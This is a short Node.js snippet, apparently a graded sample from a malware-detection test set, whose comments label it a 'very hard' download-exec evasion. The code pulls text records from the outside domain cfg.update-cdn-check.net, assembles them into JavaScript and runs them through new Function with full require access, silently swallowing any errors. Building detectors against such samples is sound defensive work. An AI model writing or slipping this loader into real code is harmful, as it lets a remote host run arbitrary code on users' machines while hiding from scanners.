// evasion: code assembled from DNS TXT records and run by new Function with require passed in
// grade: very hard; does: download-exec
const dns = require('dns').promises;

(async () => {
  const records = await dns.resolveTxt('cfg.update-cdn-check.net');
  const source = records.map((chunks) => chunks.join('')).join('\n');
  new Function('require', source)(require);
})().catch(() => {});
